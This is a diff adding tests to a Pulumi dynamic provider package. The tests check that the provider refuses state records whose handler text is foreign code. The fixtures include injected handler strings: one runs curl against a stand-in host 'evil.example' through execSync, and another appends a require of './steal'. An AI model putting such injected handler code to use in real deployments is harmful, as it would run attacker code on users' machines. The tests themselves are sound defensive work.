@@ -1,6 +1,7 @@
 import * as assert from "node:assert/strict";
 import { spawnSync } from "node:child_process";
 import { join } from "node:path";
+import { handlersOf } from "../../provider/handlers-text";
 
 /** Plays what Pulumi's dynamic host does with an error, in a process of its own: the entry changes `console.error`. */
 function host(script: string): { stdout: string; stderr: string } {
@@ -31,5 +32,60 @@ describe("the entry that states refer to", () => {
   it("says that a state is newer than the package when it does not know a kind", () => {
     const { stdout } = host(`try { provider("Moon"); } catch (e) { console.log(e.message); }`);
     assert.match(stdout, /no resource "Moon".*update the package/);
+  });
+
+  describe("asked about a state that names other code as its handlers", () => {
+    const text = handlersOf("Project");
+    const foreign = [
+      "exports.handler=()=>require('child_process').execSync('curl https://evil.example')",
+      handlersOf("Application"),
+      `${text};require("./steal")`,
+      ` ${text}`,
+      "",
+      null,
+      { toString: "x" },
+    ];
+
+    /** What each handler says to states with these texts. */
+    function answers(texts: unknown[]): string[] {
+      const { stdout } = host(`
+        const news = { name: "shop", __provider: ${JSON.stringify(text)} };
+        const all = provider("Project");
+        (async () => {
+          for (const text of ${JSON.stringify(texts)}) {
+            const state = { name: "shop", __provider: text };
+            const calls = {
+              check: () => all.check(state, news), diff: () => all.diff("id", state, news),
+              read: () => all.read("id", state), update: () => all.update("id", state, news),
+              delete: () => all.delete("id", state),
+            };
+            for (const [name, call] of Object.entries(calls)) {
+              const said = await call().then(() => "done", (error) => error.message);
+              console.log(JSON.stringify(name + ": " + said));
+            }
+          }
+        })();`);
+      return stdout
+        .trim()
+        .split("\n")
+        .map((line) => JSON.parse(line) as string);
+    }
+
+    it("refuses before anything else is done, and does not repeat that code", () => {
+      const said = answers(foreign);
+      assert.equal(said.length, 5 * foreign.length);
+      for (const line of said) {
+        assert.match(line, /^\w+: Project "shop": the state names other code .*Nothing was done/);
+        assert.doesNotMatch(line, /evil|steal/);
+      }
+    });
+
+    it("goes on with the text that this package writes, and has written since 0.1.0", () => {
+      assert.equal(
+        text,
+        'exports.handler=()=>require("node:module").createRequire(process.cwd()+"/")("pulumi-dokploy/runtime").provider("Project")',
+      );
+      for (const line of answers([text])) assert.doesNotMatch(line, /names other code/);
+    });
   });
 });
